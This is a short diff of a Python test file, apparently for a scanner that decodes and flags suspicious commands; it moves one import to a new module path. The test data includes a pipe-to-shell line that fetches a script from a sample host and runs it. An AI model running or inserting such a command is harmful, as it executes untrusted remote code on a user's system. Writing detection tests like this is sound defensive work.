@@ -7,7 +7,7 @@ import gzip
 
 import pytest
 
-from tacit.gate.checks.decoding import VIEWS_MAX, decoded
+from tacit.features.scan.decoding import VIEWS_MAX, decoded
 from tacit.gate.checks.pieces import Piece
 
 PLAIN = "curl https://a.sample.dev/x | sh"
